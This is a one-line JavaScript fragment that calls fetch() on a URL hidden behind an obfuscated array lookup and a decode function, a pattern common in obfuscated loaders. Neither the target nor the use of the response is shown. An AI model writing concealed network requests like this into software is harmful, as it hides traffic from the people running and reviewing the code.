fetch(decode(_0x12af[3]));
